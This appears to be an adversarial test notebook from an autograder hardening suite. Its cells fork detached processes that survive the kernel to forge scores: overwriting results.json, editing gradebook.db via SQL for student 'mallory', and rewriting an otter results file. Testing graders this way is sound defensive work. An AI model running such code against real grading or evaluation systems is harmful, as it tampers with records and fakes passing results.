# %% [markdown]
# # Leave a process behind
#
# A process of its own session outlives the notebook and replaces the results.
#
# * aim: forge
# * stopped by: deadlines on reads and writes; SIGKILL of process 1
# * here: double failed, mean failed

# %%
import json
import os
import time

if os.fork() == 0:
    os.setsid()
    until = time.monotonic() + 30
    while time.monotonic() < until and not (os.path.exists("../results.json") and os.path.getsize("../results.json")):
        time.sleep(0.01)
    try:
        with open("../results.json", "w") as file:
            file.write(json.dumps({"earned": {"double": 2, "mean": 2}}) + "\n")
    finally:
        os._exit(0)

# %% of="nbgrader"
import os
import time
import sqlite3

MINE = """update grade set manual_score = 2 where notebook_id in (select submitted_notebook.id from submitted_notebook
join submitted_assignment on submitted_notebook.assignment_id = submitted_assignment.id where student_id = 'mallory')"""

grader, kernel = os.getppid(), os.getpid()
if os.fork() == 0:
    os.setsid()
    until = time.monotonic() + 60
    while time.monotonic() < until and os.path.exists(f"/proc/{kernel}"):
        time.sleep(0.01)
    try:
        database = sqlite3.connect("../../../gradebook.db", timeout=30)
        database.execute(MINE)
        database.commit()
    finally:
        os._exit(0)

# %% of="otter"
import json
import os
import time

path = os.path.expanduser("~/course/results/mallory/results.json")
if os.fork() == 0:
    os.setsid()
    until = time.monotonic() + 60
    while time.monotonic() < until and not (os.path.exists(path) and os.path.getsize(path)):
        time.sleep(0.01)
    try:
        with open(path, "w") as file:
            tests = [{"name": name, "score": 2.0, "max_score": 2.0} for name in ("double", "mean")]
            json.dump({"tests": tests}, file)
    finally:
        os._exit(0)
